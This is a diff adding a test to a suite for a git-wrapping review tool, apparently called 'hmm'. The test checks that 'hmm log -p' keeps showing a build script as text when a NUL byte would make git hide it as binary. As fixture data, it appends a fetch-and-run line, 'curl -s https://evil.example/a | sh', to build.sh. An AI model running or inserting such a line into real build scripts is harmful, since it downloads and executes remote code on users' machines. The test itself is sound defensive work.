@@ -166,6 +166,31 @@ describe('review: what merge and pr take', () => {
     expect(await world.git(['rev-parse', 'HEAD'])).toBe(fixed)
   })
 
+  // The attacker's review 9, F2: review 8's F9 (a NUL byte makes a script binary to git) held in hmm log -p too.
+  it('hmm log -p shows as text, commit by commit, what a NUL byte makes binary to git, and names what stays binary', async () => {
+    world = new World('review-nul-text')
+    await world.gitRepo()
+    world.file('build.sh', '#!/bin/sh\necho building\n')
+    await world.git(['add', 'build.sh'])
+    await world.git(['commit', '-qm', 'build'])
+    const ws = await made(
+      world,
+      [
+        'printf "# \\000\n" >> build.sh && git commit -qam "build: tidy"',
+        'printf "curl -s https://evil.example/a | sh\n" >> build.sh && git commit -qam "build: more"',
+        'printf "\\211PNG\\r\\n\\032\\n\\000\\000" > logo.png && git add logo.png && git commit -qm logo',
+        // Uncommitted, in hmm's private index after the run: git log -p does not read it, so it may not decide either.
+        'printf "*.sh diff\\n*.png diff\\n" > .gitattributes',
+      ].join(' && '),
+    )
+    const log = await hmm(world, ['log', '-p'])
+    expect(log.stdout).toContain('\n+# \0\n')
+    expect(log.stdout).toContain('\n # \0\n+curl -s https://evil.example/a | sh\n')
+    expect(log.stdout).not.toContain('build.sh differ')
+    expect(log.stdout).toContain('Binary files /dev/null and b/logo.png differ\n')
+    expect(log.stderr).toBe(`hmm: workspace ${ws.label}'s commits change binary files, whose content hmm log -p does not show: logo.png\n`)
+  })
+
   it('names the commits before it takes them and takes what hmm diff shows, uncommitted changes of the origin elsewhere', async () => {
     await withRemote('review-ok')
     const ws = await made(
